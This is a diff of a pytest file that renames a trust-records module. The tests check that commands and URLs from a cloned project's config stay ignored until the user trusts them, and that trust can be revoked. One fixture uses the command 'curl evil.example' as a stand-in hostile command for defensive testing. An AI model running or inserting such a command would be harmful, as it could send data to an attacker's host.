@@ -8,7 +8,7 @@ import pytest
 
 from ralph.core.config import Loaded, load, trust_file
 from ralph.core.errors import Unreadable, UsageError
-from ralph.install import project as project_files
+from ralph.storage import trust_records
 
 YML = "summarize:\n  command: {}\nembedding:\n  url: https://example.com/v1\n"
 
@@ -35,7 +35,7 @@ def loaded(root: Path) -> Loaded:
 
 
 def trusting(root: Path) -> None:
-    project_files.record_trust(root, loaded(root).trusted_values, env_of(root))
+    trust_records.record_trust(root, loaded(root).trusted_values, env_of(root))
 
 
 def test_a_cloned_project_runs_and_sends_nothing(project: Path) -> None:
@@ -55,7 +55,7 @@ def test_a_cloned_project_runs_and_sends_nothing(project: Path) -> None:
 
 
 def test_what_was_trusted_counts_without_a_word(project: Path) -> None:
-    new = project_files.record_trust(project, loaded(project).trusted_values, env_of(project))
+    new = trust_records.record_trust(project, loaded(project).trusted_values, env_of(project))
     assert [each.key for each in new] == ["summarize.command", "embedding.url"]
     found = loaded(project)
     assert (found.config.summarize.command, found.config.embedding.url) == (
@@ -142,14 +142,14 @@ def test_the_trust_file_is_for_its_owner_alone_and_holds_no_value(project: Path)
     assert file is not None
     assert file.stat().st_mode & 0o777 == 0o600
     assert "evil" not in file.read_text(encoding="utf-8")
-    assert {one.root for one in project_files.trusted_values(env_of(project))} == {
+    assert {one.root for one in trust_records.trusted_values(env_of(project))} == {
         os.path.realpath(project)
     }
 
 
 def test_xdg_config_home_is_where_it_is_kept(project: Path) -> None:
     env = {"XDG_CONFIG_HOME": str(project.parent / "xdg")}
-    project_files.record_trust(project, load(project, env=env).trusted_values, env)
+    trust_records.record_trust(project, load(project, env=env).trusted_values, env)
     assert (project.parent / "xdg" / "ralph" / "trust.json").is_file()
     assert load(project, env=env).config.summarize.command == "curl evil.example"
     assert loaded(project).config.summarize.command == ""
@@ -161,8 +161,8 @@ def test_revoked_trust_is_gone_for_this_project_alone(project: Path) -> None:
     names(other, "make summary")
     trusting(project)
     trusting(other)
-    assert project_files.revoke_trust(project, env_of(project)) == 2
-    assert project_files.revoke_trust(project, env_of(project)) == 0
+    assert trust_records.revoke_trust(project, env_of(project)) == 2
+    assert trust_records.revoke_trust(project, env_of(project)) == 0
     assert loaded(project).config.summarize.command == ""
     assert loaded(other).config.summarize.command == "make summary"
 
@@ -180,13 +180,13 @@ def test_a_trust_file_that_is_not_ours_trusts_nothing_and_is_not_overwritten(
     found = loaded(project)
     assert found.config.summarize.command == ""
     with pytest.raises(Unreadable, match="not a trust file"):
-        project_files.record_trust(project, found.trusted_values, env_of(project))
+        trust_records.record_trust(project, found.trusted_values, env_of(project))
     assert file.read_text(encoding="utf-8") == text
-    assert project_files.trusted_values(env_of(project)) == ()
+    assert trust_records.trusted_values(env_of(project)) == ()
 
 
 def test_without_a_home_nothing_can_be_trusted(project: Path) -> None:
-    assert project_files.trusted_values({}) == ()
-    assert project_files.revoke_trust(project, {}) == 0
+    assert trust_records.trusted_values({}) == ()
+    assert trust_records.revoke_trust(project, {}) == 0
     with pytest.raises(UsageError, match="no folder"):
-        project_files.record_trust(project, load(project, env={}).trusted_values, {})
+        trust_records.record_trust(project, load(project, env={}).trusted_values, {})
